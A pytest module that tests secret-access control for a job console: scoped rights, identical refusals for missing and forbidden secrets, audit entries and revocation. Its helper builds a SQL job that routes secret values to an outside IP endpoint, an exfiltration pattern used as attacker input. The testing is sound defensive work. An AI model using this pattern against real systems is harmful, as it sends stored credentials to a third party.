"""A secret of jobs is used by who has the right on it, and no refusal tells which secrets there are.

Mallory may do everything with jobs, and has no right on secrets but those that a test gives.
"""

from __future__ import annotations

import json

import pytest
from django.core.exceptions import PermissionDenied
from django.urls import reverse

from console.accounts.actor import Actor
from console.accounts.models import Policy, User
from console.audit.models import Entry
from console.jobs import services as jobs
from console.jobs.compiler.words import TextRefused
from console.pipelines import lifecycle, services, starts
from console.pipelines.models import Pipeline, Secret, StartFrom, State, Variable
from console.web.errors import Refused
from tests.console.openapi.caller import Caller
from tests.support.cast import Cast

pytestmark = [pytest.mark.django_db, pytest.mark.process]
JOBS = ("dla:QueryJob", "dla:CreateJob", "dla:UpdateJob", "dla:StartJob", "dla:StopJob", "dla:DeleteJob")
VALUE = "hunter22"


def text(name: str = "prod-key", option: str = "accessId") -> str:
    """A job that sends a secret to the address of Mallory's choice."""
    keys = {"accessId": "'x'", "accessKey": "'${secret_values.mine}'"} | {option: f"'${{secret_values.{name}}}'"}
    given = ", ".join(f"'{key}' = {value}" for key, value in keys.items())
    return (
        "CREATE TEMPORARY TABLE seen (id BIGINT) WITH ('connector' = 'datagen');\n"
        "CREATE TEMPORARY TABLE away (id BIGINT) WITH ('connector' = 'mq', 'topic' = 't', 'producerGroup' = 'GID_t',"
        f" 'endpoint' = '93.184.216.34:9876', {given});\n"
        "INSERT INTO away SELECT id FROM seen;"
    )


def allow(cast: Cast, *actions: str, resource: str = "*", effect: str = "Allow") -> Actor:
    """One more policy for Mallory, who is asked anew."""
    document = {"Version": "1", "Statement": [{"Effect": effect, "Action": list(actions), "Resource": resource}]}
    user = User.objects.get(pk=cast.nora.pk)
    user.policies.add(
        Policy.objects.create(tenant=cast.acme, name=f"of-mallory-{Policy.objects.count()}", document=document)
    )
    return Actor(user=User.objects.get(pk=user.pk))


def secret(cast: Cast, name: str) -> str:
    """The resource of a secret of acme's."""
    return f"acs:dla:*:{cast.acme.uid}:job-secret/{name}"


@pytest.fixture
def mallory(cast: Cast) -> Actor:
    for name in ("prod-key", "mine"):
        services.set_secret(actor=cast.actor("alice"), name=name, value=VALUE)
    services.set_variable(actor=cast.actor("alice"), name="prod_address", value="x")
    allow(cast, "dla:UseJobSecret", resource=secret(cast, "mine"))
    return allow(cast, *JOBS)


@pytest.fixture
def job(mallory: Actor) -> Pipeline:
    return services.create(actor=mallory, name="late")


def sentences(actor: Actor, written: str) -> list[str]:
    return [refused.sentence for refused in jobs.look(actor=actor, text=written).refusals]


@pytest.mark.parametrize("option", ["accessId", "accessKey"])
def test_a_secret_without_a_right_and_one_that_is_not_there_are_told_alike(
    cast: Cast, mallory: Actor, job: Pipeline, option: str
) -> None:
    told = "there is no secret prod-key, or you may not use it."
    assert sentences(mallory, text(option=option)) == [told]
    with pytest.raises(TextRefused) as there:
        jobs.deploy(actor=mallory, pipeline=job, text=text(option=option))
    Secret.objects.filter(name="prod-key").delete()
    assert sentences(mallory, text(option=option)) == [told]
    with pytest.raises(TextRefused) as gone:
        jobs.deploy(actor=mallory, pipeline=job, text=text(option=option))
    assert (there.value.message, there.value.symbol) == (gone.value.message, gone.value.symbol)
    assert sentences(cast.actor("alice"), text(option=option)) == [told]


def test_the_right_on_one_secret_is_a_right_on_that_one_alone(cast: Cast, mallory: Actor, job: Pipeline) -> None:
    assert sentences(mallory, text("mine")) == []
    able = allow(cast, "dla:UseJobSecret", resource=secret(cast, "prod-*"))
    jobs.deploy(actor=able, pipeline=job, text=text())
    services.set_secret(actor=cast.actor("alice"), name="other", value="x")
    assert sentences(able, text("other")) == ["there is no secret other, or you may not use it."]
    denied = allow(cast, "dla:UseJobSecret", resource=secret(cast, "prod-key"), effect="Deny")
    assert sentences(denied, text()) == ["there is no secret prod-key, or you may not use it."]


def test_nobody_deploys_a_text_that_another_one_would_start_with_more_rights(
    cast: Cast, mallory: Actor, job: Pipeline
) -> None:
    with pytest.raises(TextRefused):
        jobs.deploy(actor=mallory, pipeline=job, text=text())
    job.refresh_from_db()
    assert job.version is None


def test_a_start_asks_its_starter_again_whoever_deployed(cast: Cast, mallory: Actor, job: Pipeline) -> None:
    jobs.deploy(actor=cast.actor("alice"), pipeline=job, text=text())
    job.refresh_from_db()
    told = "There is no secret prod-key, or who starts the job may not use it (dla:UseJobSecret)."
    with pytest.raises(Refused) as there:
        jobs.start(actor=mallory, pipeline=job)
    assert (there.value.message, there.value.symbol) == (told, "SECRET_NOT_FOUND")
    Secret.objects.filter(name="prod-key").delete()
    for actor in (mallory, cast.actor("alice")):
        with pytest.raises(Refused) as gone:
            jobs.start(actor=actor, pipeline=job)
        assert (gone.value.message, gone.value.symbol) == (told, "SECRET_NOT_FOUND")
    job.refresh_from_db()
    assert job.state == State.STOPPED


def test_the_management_api_tells_both_alike(cast: Cast, mallory: Actor, job: Pipeline) -> None:
    jobs.deploy(actor=cast.actor("alice"), pipeline=job, text=text())
    caller = Caller.of(User.objects.get(pk=cast.nora.pk))

    def answers() -> list[tuple[str, str]]:
        """What is told, without the ID of the request."""
        told = [
            caller("job/start", job="late"),
            caller("job/deploy", method="post", job="late", text=text()),
        ]
        validated = caller.data("job/validate", method="post", text=text())
        return [(one["status"], one["dynamicMessage"]) for one in told] + [("", json.dumps(validated))]

    there = answers()
    assert [one[0] for one in there[:2]] == ["BIZ_SECRET_NOT_FOUND", "BIZ_JOB_TEXT_REFUSED"]
    Secret.objects.filter(name="prod-key").delete()
    assert answers() == there


def test_refused_attempts_stand_in_the_trail(cast: Cast, mallory: Actor, job: Pipeline) -> None:
    jobs.deploy(actor=cast.actor("alice"), pipeline=job, text=text())
    caller = Caller.of(User.objects.get(pk=cast.nora.pk))
    refused = Entry.objects.filter(action="dla:UseJobSecret", result="refused", resource__endswith="/prod-key")
    caller("job/validate", method="post", text=text())
    assert refused.count() == 0
    caller("job/deploy", method="post", job="late", text=text())
    assert refused.count() == 1
    caller("job/start", job="late")
    assert refused.count() == 2
    cast.client("nora").post(reverse("jobs.text", args=["late"]), {"mode": "deploy", "text": text()})
    assert refused.count() == 3
    assert {entry.actor for entry in refused} == {cast.nora.username}


def test_a_right_that_is_taken_away_ends_the_job(cast: Cast, mallory: Actor, job: Pipeline) -> None:
    able = allow(cast, "dla:UseJobSecret", resource=secret(cast, "prod-key"))
    jobs.deploy(actor=able, pipeline=job, text=text())
    job.refresh_from_db()
    jobs.start(actor=able, pipeline=job, start_from=StartFrom.NOTHING)
    lease = lifecycle.claim(job.pk, "one")
    assert lease is not None
    assert dict(starts.spec_of(lease).secrets) == {"mine": VALUE, "prod-key": VALUE}
    lifecycle.run(lease)
    starts.require_still(lease)
    allow(cast, "dla:UseJobSecret", resource=secret(cast, "prod-key"), effect="Deny")
    for ask in (starts.require_still, starts.spec_of):
        with pytest.raises(Refused, match="There is no secret prod-key"):
            ask(lease)


def test_administrators_and_who_may_do_all_of_sql_use_every_secret(cast: Cast, mallory: Actor, job: Pipeline) -> None:
    for name in ("alice", "bob"):
        jobs.deploy(actor=cast.actor(name), pipeline=job, text=text() + f"-- {name}")
        job.refresh_from_db()
        jobs.start(actor=cast.actor(name), pipeline=job, start_from=StartFrom.NOTHING)
        services.stop(actor=cast.actor(name), pipeline=job)


def test_a_secret_of_another_account_is_none(cast: Cast, mallory: Actor) -> None:
    charlie = cast.actor("charlie")
    told = ["there is no secret prod-key, or you may not use it."]
    assert sentences(charlie, text()) == told
    job = services.create(actor=charlie, name="late")
    with pytest.raises(TextRefused):
        jobs.deploy(actor=charlie, pipeline=job, text=text())


def test_suggestions_are_names_that_the_actor_may_list(cast: Cast, mallory: Actor) -> None:
    wrong = text("mine").replace("'GID_t'", "'${prod_adress}'")
    assert sentences(mallory, wrong) == ["the variable prod_adress has no value."]
    assert sentences(mallory, text("prod-kay")) == ["there is no secret prod-kay, or you may not use it."]
    lister = allow(cast, "dla:ListJobSecrets", resource=f"acs:dla:*:{cast.acme.uid}:job-variable/*")
    assert sentences(lister, wrong) == ["the variable prod_adress has no value. Did you mean prod_address?"]
    assert sentences(lister, text("prod-kay")) == ["there is no secret prod-kay, or you may not use it."]
    lister = allow(cast, "dla:ListJobSecrets", resource=secret(cast, "*"))
    assert sentences(lister, text("prod-kay")) == [
        "there is no secret prod-kay, or you may not use it. Did you mean prod-key?"
    ]
    assert "prod-key" not in str(sentences(cast.actor("charlie"), text("prod-kay")))


def test_completion_has_the_names_that_the_actor_may_list(cast: Cast, mallory: Actor) -> None:
    def names(who: str) -> str:
        return cast.client(who).get(reverse("jobs.names")).content.decode()

    for name in ("prod-key", "prod_address"):
        assert name in names("alice")
        assert name not in names("nora")
        assert name not in names("charlie")
    allow(cast, "dla:ListJobSecrets", resource=secret(cast, "*"))
    assert "prod-key" in names("nora") and "prod_address" not in names("nora")


def test_the_name_of_a_secret_that_is_saved_tells_no_other_name(cast: Cast, mallory: Actor) -> None:
    written = text("mine").replace("'${secret_values.mine}'", "'sEcReT-5'")
    free = written.replace("away", "free")
    services.set_secret(actor=cast.actor("alice"), name="away_accessKey", value="x")
    assert _shape(mallory, written).replace("away", "free") == _shape(mallory, free)
    lister = allow(cast, "dla:ListJobSecrets", resource=secret(cast, "*"))
    assert [one.name for one in jobs.look(actor=lister, text=written).found_secrets] == ["away_accessKey_2"]


def _shape(actor: Actor, written: str) -> str:
    (found,) = jobs.look(actor=actor, text=written).found_secrets
    return found.name[:-8] + "x" * 8


def test_a_draft_saves_no_secret_for_who_may_save_none(cast: Cast, mallory: Actor, job: Pipeline) -> None:
    written = text("mine", "accessId").replace("'accessKey' = '${secret_values.mine}'", "'accessKey' = 'sEcReT-5'")
    for save in (jobs.save_draft, jobs.deploy):
        with pytest.raises(PermissionDenied, match="dla:PutJobSecret"):
            save(actor=mallory, pipeline=job, text=written)
    job.refresh_from_db()
    assert (job.draft, job.version) == ("", None)
    assert set(Secret.objects.values_list("name", flat=True)) == {"prod-key", "mine"}
    shown = cast.client("nora").post(reverse("jobs.text", args=["late"]), {"mode": "save", "text": written})
    assert shown.status_code == 422
    assert "Not allowed: " in shown.content.decode() and "dla:PutJobSecret" in shown.content.decode()

    able = allow(cast, "dla:PutJobSecret", resource=secret(cast, "away_*"))
    checked = jobs.save_draft(actor=able, pipeline=job, text=written)
    (found,) = checked.found_secrets
    assert Secret.objects.filter(name=found.name).exists() and "sEcReT-5" not in checked.text
    assert sentences(able, checked.text) == [f"there is no secret {found.name}, or you may not use it."]


def test_a_variable_brings_no_secret_into_what_is_sent(cast: Cast, mallory: Actor) -> None:
    """Who may write variables names a secret in one, and a text puts the variable where its value is sent."""
    Variable.objects.create(tenant=cast.acme, name="v", value="${secret_values.mine}")
    sent = text("mine").replace("'topic' = 't'", "'topic' = 't', 'tag' = '${v}'")
    (told,) = sentences(mallory, sent)
    assert told.startswith("a variable's value names no secret")
